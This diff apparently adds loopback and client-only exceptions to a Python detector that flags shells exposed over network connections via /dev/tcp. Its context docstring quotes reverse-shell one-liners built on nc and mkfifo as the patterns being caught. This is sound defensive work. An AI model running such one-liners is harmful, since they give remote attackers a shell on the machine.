@@ -132,6 +132,23 @@ def shell_on_connection(commands: list[Command]) -> bool:
         for r in command.redirects) for command in commands)
 
 
+def loopback(target: str) -> bool:
+    """`/dev/tcp/127.0.0.1/6379`, `/dev/tcp/localhost/80`: this machine talking to itself."""
+    host = [*target.split("/"), "", "", ""][3]
+    return host == "localhost" or host.startswith("127.") or host in ("::1", "[::1]")
+
+
+def client_only(commands: list[Command]) -> bool:
+    """After `exec 3<>/dev/tcp/host/80`, only programs that are not shells read or write the
+    extra descriptor (`printf 'HEAD /' >&3; cat <&3`) and no shell reads what comes back:
+    a client's request, no shell on it."""
+    users = [name_args(c)[0] for c in commands for r in c.redirects
+             if r.op in (">&", "<&") and r.target.text.isdigit() and int(r.target.text) > 2]
+    return bool(users) and not any(name in SHELLS or name in ("", "eval", "exec", "source", ".")
+                                   or "$" in name for name in users) and not any(
+        reads_stdin_shell(*name_args(c), c.stdin_text is not None) for c in commands)
+
+
 def remote_shell_pipe(commands: list[Command]) -> bool:
     """`nc host 4444 | sh`, `mkfifo f; cat f | sh -i | nc host 4444 > f`: a shell whose
     input or output flows through a network connection."""
